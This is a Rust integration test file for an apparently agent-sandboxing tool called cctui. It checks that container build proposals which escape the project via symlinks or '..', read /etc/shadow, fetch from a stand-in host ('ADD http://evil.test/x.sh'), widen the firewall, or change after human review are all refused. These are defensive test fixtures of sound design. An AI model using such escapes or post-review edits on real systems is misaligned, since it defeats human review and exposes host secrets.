//! A repository's proposals as an attacker writes them: a build that reaches outside the
//! project (through a symlink or `..`), a build file changed after it was accepted, a
//! proposal changed between review and accept, and proposal files that are huge or FIFOs.
//! Each is refused by name, and what is built is exactly what was accepted.

mod common;

use std::path::Path;
use std::time::{Duration, Instant};

use common::*;

const UID: u32 = 1000;

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// The digest `project diff` prints.
fn reviewed_digest(cfg: &Path, p: &str) -> String {
    let (code, out, err) = cctui(cfg, &["project", "diff", p]);
    assert_eq!(code, 0, "{out}{err}");
    let line = out
        .lines()
        .find_map(|l| l.strip_prefix("proposal digest: "))
        .unwrap_or_else(|| panic!("no digest in:\n{out}"));
    line.split_whitespace().next().unwrap().to_string()
}

#[test]
fn a_build_that_reaches_outside_the_project_or_through_a_symlink_is_refused_by_name() {
    let name = unique("propout");
    let cfg = TempFolder::new(&format!("{name}-cfg"), 0);
    write_cli_config(&cfg.path, "");
    let secret = TempFolder::new(&format!("{name}-secret"), 0);
    write(&secret.path.join("id_ed25519"), "PRIVATE KEY\n");
    let project = TempFolder::new(&name, UID);
    let dc = project.path.join(".devcontainer");
    write(
        &dc.join("Dockerfile"),
        "FROM debian:bookworm-slim\nCOPY . /srv\n",
    );
    let p = project.path.to_str().unwrap();
    let outside = secret.path.to_str().unwrap();
    std::os::unix::fs::symlink(&secret.path, dc.join("ctx")).unwrap();
    let up = "../".repeat(project.path.components().count() + 1);
    let cases = [
        // The context is a symlink to a folder of the host's.
        (
            r#"{"build":{"dockerfile":"Dockerfile","context":"ctx"}}"#,
            "symlink",
        ),
        // The context climbs out of the project.
        (
            &*format!(r#"{{"build":{{"dockerfile":"Dockerfile","context":"{up}{outside}"}}}}"#),
            "outside the project",
        ),
        // A folder inside the context is a symlink out.
        (
            r#"{"build":{"dockerfile":"Dockerfile","context":"."}}"#,
            "symlink",
        ),
    ];
    for (json, why) in cases {
        write(&dc.join("devcontainer.json"), json);
        for args in [vec!["project", "diff", p], vec!["project", "accept", p]] {
            let (code, out, err) = cctui(&cfg.path, &args);
            assert_ne!(code, 0, "{json}: {args:?} went through:\n{out}{err}");
            assert!(err.contains(why), "{json}: {err}");
            assert!(!out.contains("PRIVATE KEY"), "{out}");
        }
        assert!(
            !cfg.path.join("projects").exists(),
            "{json}: a proposal reaching outside was accepted"
        );
    }
    // A local feature outside the project is refused the same way.
    std::fs::remove_file(dc.join("ctx")).unwrap();
    write(&secret.path.join("install.sh"), "cat /etc/shadow\n");
    let feature = format!("../{up}{outside}");
    write(
        &dc.join("devcontainer.json"),
        &format!(r#"{{"image":"debian:bookworm-slim","features":{{"{feature}":{{}}}}}}"#),
    );
    let (code, out, err) = cctui(&cfg.path, &["project", "accept", p]);
    assert_ne!(
        code, 0,
        "a feature outside the project was accepted:\n{out}{err}"
    );
    assert!(err.contains("outside the project"), "{err}");
}

#[tokio::test]
async fn a_build_file_changed_after_accept_is_shown_and_never_built() {
    let name = unique("propfile");
    let _c = Cleanup::new(&name);
    let cfg = TempFolder::new(&format!("{name}-cfg"), 0);
    write_cli_config(&cfg.path, "");
    let project = TempFolder::new(&name, UID);
    let dc = project.path.join(".devcontainer");
    write(
        &dc.join("devcontainer.json"),
        r#"{"build":{"dockerfile":"Dockerfile"},"features":{"./hello":{}}}"#,
    );
    write(
        &dc.join("Dockerfile"),
        "FROM debian:bookworm-slim\nCOPY run.sh /srv/\n",
    );
    write(&dc.join("run.sh"), "echo accepted\n");
    write(&dc.join("hello/install.sh"), "echo accepted > /etc/hello\n");
    let mut vols = Cleanup::new(&format!("{name}-vols"));
    vols.volumes = project_volumes(&project.path);
    let p = project.path.to_str().unwrap();

    let (code, review, err) = cctui(&cfg.path, &["project", "diff", p]);
    assert_eq!(code, 0, "{err}");
    assert!(review.contains("+++ feature/0/install.sh"), "{review}");
    assert!(review.contains("+ echo accepted > /etc/hello"), "{review}");
    let digest = reviewed_digest(&cfg.path, p);
    let (code, out, err) = cctui(&cfg.path, &["project", "accept", p, "--digest", &digest]);
    assert_eq!(code, 0, "{out}{err}");

    // After accept, the agent edits what runs as root at build time.
    write(&dc.join("hello/install.sh"), "echo EVIL > /etc/hello\n");
    write(&dc.join("run.sh"), "echo EVIL\n");
    let (code, review, err) = cctui(&cfg.path, &["project", "diff", p]);
    assert_eq!(code, 0, "{err}");
    assert!(review.contains("+ echo EVIL > /etc/hello"), "{review}");
    assert!(review.contains("+++ context/run.sh"), "{review}");
    let (code, out, err) = cctui(&cfg.path, &["new", p, "--name", &name]);
    assert_ne!(code, 0, "a changed build file was built:\n{out}{err}");
    assert!(
        err.contains("differ from the accepted") && err.contains("cctui project diff"),
        "{err}"
    );
    assert!(err.contains("feature/0/install.sh"), "{err}");
}

#[test]
fn accept_writes_only_the_proposal_that_was_reviewed() {
    let name = unique("propdigest");
    let cfg = TempFolder::new(&format!("{name}-cfg"), 0);
    write_cli_config(&cfg.path, "");
    let project = TempFolder::new(&name, UID);
    let p = project.path.to_str().unwrap();
    let file = project.path.join(".cctui.toml");
    write(&file, "[session]\nenv = { MODE = \"reviewed\" }\n");
    let digest = reviewed_digest(&cfg.path, p);
    // Changed between the review and the accept.
    write(&file, "[firewall]\nallow = [\"evil.example\"]\n");
    let (code, _, err) = cctui(&cfg.path, &["project", "accept", p, "--digest", &digest]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("not the one reviewed"), "{err}");
    assert!(
        !cfg.path.join("projects").exists(),
        "an unreviewed proposal was written"
    );
    let digest = reviewed_digest(&cfg.path, p);
    let (code, out, err) = cctui(&cfg.path, &["project", "accept", p, "--digest", &digest]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        out.contains(&digest),
        "accept names what it accepted: {out}"
    );
}

/// Runs cctui, killing it if it takes over 20 s (a read that blocks would hang forever).
fn cctui_in_time(cfg: &Path, args: &[&str]) -> (i32, String) {
    let mut child = cctui_cmd(cfg, args)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let start = Instant::now();
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            let mut err = String::new();
            std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err).unwrap();
            return (status.code().unwrap_or(-1), err);
        }
        if start.elapsed() > Duration::from_secs(20) {
            child.kill().unwrap();
            child.wait().unwrap();
            panic!("cctui {args:?} hung on a proposal file");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn a_fifo_or_huge_proposal_file_is_refused_not_read() {
    let name = unique("propfifo");
    let cfg = TempFolder::new(&format!("{name}-cfg"), 0);
    write_cli_config(&cfg.path, "");
    let project = TempFolder::new(&name, UID);
    let p = project.path.to_str().unwrap();
    let fifo = std::ffi::CString::new(format!("{p}/.cctui.toml")).unwrap();
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
    let (code, err) = cctui_in_time(&cfg.path, &["project", "diff", p]);
    assert_ne!(code, 0, "{err}");
    assert!(err.contains("not a regular file"), "{err}");
    std::fs::remove_file(project.path.join(".cctui.toml")).unwrap();
    let dc = project.path.join(".devcontainer");
    std::fs::create_dir_all(&dc).unwrap();
    let fifo = std::ffi::CString::new(format!("{p}/.devcontainer/devcontainer.json")).unwrap();
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
    let (code, err) = cctui_in_time(&cfg.path, &["project", "diff", p]);
    assert_ne!(code, 0, "{err}");
    assert!(err.contains("not a regular file"), "{err}");
    std::fs::remove_file(dc.join("devcontainer.json")).unwrap();

    // 4 MiB of settings: refused by size, not parsed.
    let huge = format!("# {}\n", "x".repeat(4 << 20));
    write(&project.path.join(".cctui.toml"), &huge);
    let (code, err) = cctui_in_time(&cfg.path, &["project", "diff", p]);
    assert_ne!(code, 0, "{err}");
    assert!(err.contains("cctui does not read it"), "{err}");
}

#[test]
fn a_dockerfile_that_fetches_outside_the_fence_is_refused_naming_the_line() {
    let name = unique("propfetch");
    let cfg = TempFolder::new(&format!("{name}-cfg"), 0);
    write_cli_config(&cfg.path, "");
    let project = TempFolder::new(&name, UID);
    let dc = project.path.join(".devcontainer");
    write(
        &dc.join("devcontainer.json"),
        r#"{"build":{"dockerfile":"Dockerfile"}}"#,
    );
    let p = project.path.to_str().unwrap();
    for (dockerfile, line) in [
        (
            "FROM debian:bookworm-slim\nADD http://evil.test/x.sh /x.sh\n",
            ":2:",
        ),
        (
            "FROM debian:bookworm-slim\nCOPY --from=evil.test/img /k /k\n",
            ":2:",
        ),
        ("ARG B=evil.test/img\nFROM ${B}\n", ":2:"),
    ] {
        write(&dc.join("Dockerfile"), dockerfile);
        let (code, out, err) = cctui(&cfg.path, &["project", "accept", p]);
        assert_ne!(code, 0, "{dockerfile}: accepted:\n{out}{err}");
        assert!(err.contains(&format!("Dockerfile{line}")), "{err}");
        assert!(!cfg.path.join("projects").exists(), "{dockerfile}");
    }
}
